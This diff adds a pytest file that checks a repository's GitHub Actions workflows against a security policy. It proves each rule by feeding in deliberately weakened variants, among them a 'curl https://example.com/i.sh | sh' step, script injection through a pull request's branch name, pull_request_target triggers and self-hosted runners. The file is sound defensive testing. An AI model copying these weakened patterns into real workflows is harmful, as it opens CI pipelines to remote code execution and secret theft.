@@ -1,0 +1,209 @@
+"""The workflows keep to the policy, and the policy finds what breaks it."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.command import ROOT
+from tests.workflows.policy import RULES, offences
+
+TEMPLATES = ROOT / "identity_reconciler/templates/github"
+OURS = sorted(
+    path
+    for folder in (".github/workflows", ".github/actions", TEMPLATES)
+    for path in (ROOT / folder).rglob("*.yml")
+)
+SHA = "08c6903cd8c0fde910a37f88322edcfb5dd907a8"
+READS = "      contents: read # To check the YAML out.\n"
+CHECKOUT = f"      - uses: actions/checkout@{SHA} # v5.0.0\n"
+SEED = "      - name: Without a role, begin with a sandbox as it was before\n"
+COMMENTING = "      pull-requests: write # For the comment and the labels.\n    steps:\n"
+TAKES = "        uses: $/.github/actions/identity-reconciler\n"
+RUN = "        run: >-\n"
+
+
+@dataclass(frozen=True)
+class Bad:
+    """One of our workflows, with one thing changed for the worse."""
+
+    rule: str
+    file: str
+    old: str
+    new: str
+
+    def text(self) -> str:
+        """Return the workflow as somebody might have written it."""
+        text = (TEMPLATES / self.file).read_text(encoding="utf-8")
+        assert self.old in text, f"{self.file} has changed: {self.old}"
+        return text.replace(self.old, self.new, 1)
+
+
+PLAN, APPLY, DRIFT = "workflows/plan.yml", "workflows/apply.yml", "workflows/drift.yml"
+EXPIRE, APPROVED = "workflows/expire.yml", "workflows/apply-approved.yml"
+ACTION = "actions/identity-reconciler/action.yml"
+SAME = "github.event.pull_request.head.repo.full_name == github.repository"
+ON_MAIN = " && github.ref == 'refs/heads/main'"
+TURN = "group: identity-apply # One at a time, and what has begun is never cancelled.\n"
+BAD = {
+    "the rights of the base for a stranger's pull request": Bad(
+        "trigger", PLAN, "  pull_request:\n", "  pull_request_target:\n"
+    ),
+    "a run of another workflow starts it": Bad(
+        "trigger", DRIFT, "  workflow_dispatch:\n", "  workflow_run: {workflows: [plan]}\n"
+    ),
+    "everybody's comment starts it": Bad(
+        "trigger", EXPIRE, "  workflow_dispatch:\n", "  issue_comment:\n"
+    ),
+    "the default permissions": Bad("top-permissions", PLAN, "permissions: {}\n", ""),
+    "everything may be read": Bad(
+        "top-permissions", APPLY, "permissions: {}\n", "permissions: read-all\n"
+    ),
+    "a job that may do everything": Bad(
+        "job-permissions",
+        APPROVED,
+        "    permissions:\n      actions: read # To fetch the plan of the pull request.\n"
+        "      pull-requests: read # To find the pull request of the commit.\n",
+        "    permissions: read-all\n",
+    ),
+    "a job that inherits": Bad(
+        "job-permissions", PLAN, f"    permissions:\n{READS}    steps:\n", "    steps:\n"
+    ),
+    "an action by its tag": Bad("pins", PLAN, f"checkout@{SHA} # v5.0.0", "checkout@v5"),
+    "a commit that does not say which version": Bad(
+        "pins", APPLY, f"checkout@{SHA} # v5.0.0", f"checkout@{SHA}"
+    ),
+    "an image instead of an action": Bad(
+        "pins", EXPIRE, TAKES.strip(), "uses: docker://example/tool:latest"
+    ),
+    "a branch name in a script": Bad(
+        "script-injection", PLAN, '"$NUMBER"', "${{ github.event.pull_request.head.ref }}"
+    ),
+    "the command of an action in its script": Bad(
+        "script-injection", ACTION, '<<< "$COMMAND"', '<<< "${{ inputs.command }}"'
+    ),
+    "a script that sets the environment": Bad(
+        "file-commands", ACTION, '"${arguments[@]}"\n', '"${arguments[@]}" >> "$GITHUB_ENV"\n'
+    ),
+    "a token left by the checkout": Bad(
+        "checkout-credentials", APPLY, "          persist-credentials: false\n", ""
+    ),
+    "a checkout of a stranger's commit": Bad(
+        "foreign-checkout",
+        PLAN,
+        "          fetch-depth: 2 # HEAD^1 is what the pull request would be merged into.\n",
+        "          ref: ${{ github.event.pull_request.head.sha }}\n",
+    ),
+    "a machine of one's own": Bad("runner", PLAN, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
+    "a machine that changes by itself": Bad(
+        "runner", DRIFT, "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"
+    ),
+    "a job without an end": Bad("timeout", APPLY, "    timeout-minutes: 120\n", ""),
+    "a key kept as a secret": Bad(
+        "secrets", APPLY, "${{ vars.AWS_REGION || 'us-east-1' }}", "${{ secrets.AWS_REGION }}"
+    ),
+    "a job with a role that comments": Bad(
+        "aws-and-writing",
+        DRIFT,
+        READS + "      id-token: write # To take the role that reads.\n",
+        READS + "      id-token: write # To take the role that reads.\n      issues: write\n",
+    ),
+    "a commenting job that runs the repository": Bad(
+        "code-and-writing",
+        PLAN,
+        COMMENTING,
+        COMMENTING + CHECKOUT + "        with: {persist-credentials: false}\n",
+    ),
+    "a commenting job that knows a role": Bad(
+        "code-and-writing",
+        PLAN,
+        "          GITHUB_TOKEN: ${{ github.token }}\n",
+        "          GITHUB_TOKEN: ${{ github.token }}\n"
+        "          ROLE_ARN: ${{ vars.IDENTITY_PLAN_ROLE_ARN }}\n",
+    ),
+    "a fork's plan with a role": Bad("forks", PLAN, f"    if: {SAME}\n", ""),
+    "a fork's comment": Bad(
+        "forks", PLAN, f"github.event.action != 'closed' &&\n      {SAME} }}}}", "true }}"
+    ),
+    "a role on any branch": Bad("branch", DRIFT, ON_MAIN, ""),
+    "an expiry on any branch": Bad("branch", EXPIRE, ON_MAIN, ""),
+    "an apply of every branch": Bad("pushes", APPROVED, "branches: [main]", 'branches: ["**"]'),
+    "an apply that nobody reviews": Bad(
+        "guarded-apply",
+        APPLY,
+        "    environment: identity # Required reviewers, and main only.\n",
+        "",
+    ),
+    "an apply that is cancelled half-way": Bad(
+        "guarded-apply",
+        APPLY,
+        f"{TURN}      cancel-in-progress: false",
+        f"{TURN}      cancel-in-progress: true",
+    ),
+    "two applies at a time": Bad(
+        "guarded-apply", EXPIRE, "group: identity-apply", "group: identity-expire"
+    ),
+    "a run that is cancelled while it applies": Bad(
+        "cancelling", APPROVED, "  cancel-in-progress: false\n", "  cancel-in-progress: true\n"
+    ),
+    "runs without turns": Bad(
+        "cancelling",
+        DRIFT,
+        "concurrency:\n  group: drift\n  cancel-in-progress: false\n",
+        "",
+    ),
+    "any plan is applied": Bad(
+        "bound-plan", APPLY, " --expect-digest ${{ needs.plan.outputs.digest }}", ""
+    ),
+    "an old plan is applied": Bad("bound-plan", APPLY, "--expect-head --expect", "--expect"),
+    "a digest from the artifact itself": Bad(
+        "bound-plan", APPLY, "${{ needs.plan.outputs.digest }}", "${{ steps.read.outputs.digest }}"
+    ),
+    "a journal of successes only": Bad("journal", EXPIRE, "        if: always()\n", ""),
+    "names kept for as long as GitHub likes": Bad(
+        "retention",
+        APPLY,
+        "          retention-days: 1 # It holds names, and is valid for a day.\n",
+        "",
+    ),
+    "a plan from another run": Bad(
+        "other-runs",
+        APPLY,
+        "          name: plan\n          path: plan\n",
+        "          name: plan\n          path: plan\n          run-id: 7\n",
+    ),
+    "a cache that a fork may fill": Bad(
+        "caches",
+        ACTION,
+        '        python-version: "3.13"\n',
+        '        python-version: "3.13"\n        cache: pip\n',
+    ),
+    "a tool of any version": Bad("tools", PLAN, "--spec identity-reconciler==0.1.0 ", ""),
+    "dependencies of any content": Bad("tools", ACTION, "--require-hashes ", ""),
+    "a script from the network": Bad(
+        "tools", APPROVED, RUN, "        run: |\n          curl https://example.com/i.sh | sh\n"
+    ),
+}
+
+
+class TestOurs:
+    """Every workflow and action of the repository, and every one we write for others."""
+
+    @pytest.mark.parametrize("path", OURS, ids=lambda path: str(path.relative_to(ROOT)))
+    def test_keeps_to_the_policy(self, path: Path) -> None:
+        assert offences(path.read_text(encoding="utf-8")) == set()
+
+
+class TestBad:
+    """What somebody might do to a workflow is found, by the rule that is about it."""
+
+    @pytest.mark.parametrize("name", BAD)
+    def test_is_caught(self, name: str) -> None:
+        assert offences(BAD[name].text()) == {BAD[name].rule}
+
+    def test_every_rule_is_proven(self) -> None:
+        assert {bad.rule for bad in BAD.values()} == {
+            rule.__name__.replace("_", "-") for rule in RULES
+        }
